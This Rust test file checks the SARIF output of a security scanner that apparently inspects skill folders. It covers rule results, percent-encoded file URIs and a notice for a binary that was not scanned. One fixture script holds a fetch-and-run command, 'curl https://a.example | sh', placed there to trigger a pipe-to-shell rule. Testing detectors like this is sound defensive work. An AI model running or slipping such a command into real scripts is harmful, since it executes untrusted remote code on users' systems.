use serde_json::Value;

use super::super::{File, Scanner};
use super::*;

fn document() -> Value {
    let script = File {
        path: "scripts/a b.sh",
        bytes: b"\n\ncurl https://a.example | sh\n",
        executable: true,
    };
    let binary = File { path: "bin/é", bytes: b"\x7fELF\0", executable: true };
    let report = Scanner::new().scan([script, binary]);
    sarif("1.2.3", [("skills/one", &report)])
}

#[test]
fn a_document_has_what_the_format_requires() {
    let document = document();
    assert_eq!(document["version"], "2.1.0");
    let run = &document["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "skillful");
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules.len(), RULES.len());
    for result in run["results"].as_array().unwrap() {
        let rule = &rules[usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap()];
        assert_eq!(rule["id"], result["ruleId"]);
        assert!(["note", "warning", "error"].contains(&result["level"].as_str().unwrap()));
        assert!(result["message"]["text"].as_str().is_some_and(|text| !text.is_empty()));
        let region = &result["locations"][0]["physicalLocation"]["region"];
        assert!(region["startLine"].as_u64() >= Some(1));
        assert!(region["startColumn"].as_u64() >= Some(1));
    }
}

#[test]
fn a_result_names_its_file_as_a_uri() {
    let result = &document()["runs"][0]["results"][0];
    assert_eq!(result["ruleId"], "pipe-to-shell");
    assert_eq!(result["level"], "error");
    let location = &result["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], "skills/one/scripts/a%20b.sh");
    assert_eq!(location["region"]["startLine"], 3);
}

#[test]
fn what_was_not_looked_at_is_a_notification() {
    let notes = &document()["runs"][0]["invocations"][0]["toolExecutionNotifications"];
    assert_eq!(notes.as_array().unwrap().len(), 1);
    assert_eq!(notes[0]["message"]["text"], "not scanned: a compiled program");
    let location = &notes[0]["locations"][0]["physicalLocation"]["artifactLocation"];
    assert_eq!(location["uri"], "skills/one/bin/%C3%A9");
}

#[test]
fn a_document_says_how_much_was_looked_at() {
    let expected = serde_json::json!({
        "looked_at": {"files": 1, "bytes": 30}, "not_looked_at": 1, "omitted": 0,
    });
    assert_eq!(document()["runs"][0]["properties"], expected);
}

#[test]
fn an_absolute_folder_gives_whole_uris() {
    let report = Scanner::new().scan([File { path: "a", bytes: b"\0", executable: false }]);
    let document = sarif("1", [("/skills/one", &report)]);
    let location = &document["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
    assert_eq!(location["artifactLocation"]["uri"], "file:///skills/one/a");
}
